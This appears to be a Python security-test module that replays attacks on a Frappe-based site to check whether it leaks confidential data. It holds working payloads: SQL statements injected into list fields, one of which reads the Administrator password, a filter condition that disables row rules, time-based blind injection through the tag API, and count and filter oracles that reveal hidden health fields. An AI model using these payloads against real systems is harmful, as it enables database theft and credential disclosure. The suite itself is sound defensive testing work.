"""Fields, filters and orders of a list that are no plain columns."""

from __future__ import annotations

from typing import Any

from tests.site.confidentiality.replay.attack import Evidence, attack, both, told
from tests.site.confidentiality.replay.http import Answer, Visitor, resource, texts
from tests.site.confidentiality.replay.world import Victim

OPEN_LIST = "Country"
SLEEP = 1.2


def _in_a_field(visitor: Visitor, statement: str) -> list[Answer]:
	"""Put a statement into the fields of a list that everybody may read, by each road to a list."""
	fields = ["`name`, (" + statement + ") as x"]
	given = {"fields": fields, "limit_page_length": 1}
	return [
		visitor.list(OPEN_LIST, **given),
		visitor.ask("GET", f"/api/v2/document/{OPEN_LIST}", params=texts({"fields": fields, "limit": 1})),
		visitor.call("frappe.client.get_list", doctype=OPEN_LIST, **given),
		visitor.call("frappe.client.get_value", doctype=OPEN_LIST, filters={}, fieldname=fields),
		visitor.call("frappe.desk.reportview.get", doctype=OPEN_LIST, fields=fields, page_length=1),
		visitor.call("frappe.desk.reportview.get_list", doctype=OPEN_LIST, fields=fields, page_length=1),
	]


@attack("L01", "a website user reads the whole database through the fields of a list")
def statement_in_a_field(world: Any, victim: Victim) -> Evidence:
	words = world.words
	statements = (
		f"select concat_ws(',', {words.name}) from `tab{words.person}` where name = '{victim.person}'",
		f"select concat_ws(',', {words.note}, {words.health}) from `tab{words.text}` where name = '{victim.text}'",
		"select password from __Auth where name = 'Administrator' limit 1",
	)
	answers = [one for who in world.who("web") for text in statements for one in _in_a_field(who, text)]
	return Evidence(answers, told(answers, victim))


@attack("L02", "a condition in the name of a filter's field switches the row rule off")
def condition_in_a_filter(world: Any, victim: Victim) -> Evidence:
	answers: list[Answer] = []
	for kind in dict.fromkeys((world.words.client, world.words.text)):
		filters = [[kind, f"ifnull(1,1) || `tab{kind}`.`name`", "like", "%"]]
		given = {"doctype": kind, "filters": filters, "fields": ["*"]}
		for who in world.who("provider"):
			answers += [
				who.list(kind, filters=filters, fields=["*"], limit_page_length=0),
				who.call("frappe.desk.reportview.get", **given, page_length=1000),
				who.call("frappe.desk.reportview.get_count", **given),
				who.call(
					"frappe.desk.search.search_link", doctype=kind, txt="", filters=filters, page_length=1000
				),
			]
	return Evidence(answers, told(answers, victim, victim.client, victim.text))


@attack("L03", "a statement in the DocType of a tag runs in the database, and its time answers questions")
def statement_in_a_tag(world: Any, victim: Victim) -> Evidence:
	answers: list[Answer] = []
	harms = [
		f"the database slept at the word of {who.email}"
		for who in world.who("web")
		# Once may be chance on a busy machine.
		if sum(_slept(world.words.client, victim.client, who, answers) for _try in range(3)) >= 2
	]
	return Evidence(answers, both(*harms))


def _slept(kind: str, name: str, who: Visitor, answers: list[Answer]) -> bool:
	"""Whether the answer comes later when the statement says so."""
	seconds = []
	for truth in ("1=2", "1=1"):
		where = f"name='{name}' and if({truth}, sleep({SLEEP}), 0)"
		doctype = f"{kind}` set _user_tags=_user_tags where {where} -- "
		answers.append(who.call("frappe.desk.doctype.tag.tag.add_tag", tag="x", dt=doctype, dn="x"))
		seconds.append(answers[-1].seconds)
	return seconds[1] >= SLEEP and seconds[1] - seconds[0] > SLEEP / 2


def _counted(answer: Answer) -> bool:
	return isinstance(answer.message, int) and answer.message > 0


@attack("L04", "a count answers questions about any field of any record")
def counting(world: Any, victim: Victim) -> Evidence:
	words, answers, harms = world.words, [], []
	asked = (
		(words.person, {words.name: ["like", f"%{victim.secrets['name'][:9]}%"]}, victim.secrets["name"][:9]),
		(words.text, {words.note: ["like", f"{victim.secrets['note'][:9]}%"]}, victim.secrets["note"][:9]),
		(words.client, {"name": victim.client}, victim.client),
	)
	for who in world.who("web") + world.who("staff"):
		for kind, filters, known in asked:
			for method in ("frappe.client.get_count", "frappe.desk.reportview.get_count"):
				answers.append(who.call(method, doctype=kind, filters=filters, fields=["name"]))
				if _counted(answers[-1]):
					harms.append(f"{who.email} learns by counting that {known} is there")
	return Evidence(answers, both(*harms))


def _referred_from_here(world: Any) -> Victim:
	"""On a first version a referral of one's own place may name a client of another."""
	victim = world.victim()
	if world.title == "naive":
		values = {"client": victim.client, "province": world.words.here, "provider": "Shelter Y"}
		world.visitor("central").insert(world.words.referral, **values)
	return victim


@attack(
	"L16",
	"a list fetches the fields of a linked client whom the reader may not see",
	prepare=_referred_from_here,
)
def joined_fields(world: Any, victim: Victim) -> Evidence:
	words, answers = world.words, []
	fields = ["name", f"client.{words.name}", "client.name as other"]
	plain = ["name", f"client.{words.place}", "client.name as other"]
	for who in world.who("staff") + world.who("web"):
		for kind in (words.referral, words.plan):
			answers.append(who.list(kind, fields=fields, limit_page_length=0))
			answers.append(who.list(kind, fields=plain, limit_page_length=0))
			answers.append(
				who.call("frappe.desk.reportview.get", doctype=kind, fields=plain, page_length=500)
			)
	return Evidence(answers, told(answers, victim, victim.client))


@attack("L17", "a filter or an order answers questions about a field that the reader may not see")
def filter_as_question(world: Any, victim: Victim) -> Evidence:
	words, answers, harms = world.words, [], []
	target = world.mine() if world.title == "naive" else victim
	for who in world.who("half"):
		for method in ("", "frappe.desk.reportview.get_list"):
			found = []
			for start in (target.secrets["health"][:9], "Qqqqqqqqq"):
				filters = {"name": target.text, words.health: ["like", f"{start}%"]}
				answer = _listed(who, method, words.text, filters)
				answers.append(answer)
				found.append(answer.holds(target.text))
			if found == [True, False]:
				harms.append(f"{who.email} learns the beginning of {words.health} by filtering")
		answers.append(who.list(words.text, order_by=f"{words.health} asc", limit_page_length=1))
	return Evidence(answers, both(*harms))


def _listed(who: Visitor, method: str, kind: str, filters: dict[str, Any]) -> Answer:
	if not method:
		return who.ask("GET", resource(kind), params=texts({"filters": filters, "fields": ["name"]}))
	return who.call(method, doctype=kind, filters=filters, fields=["name"])
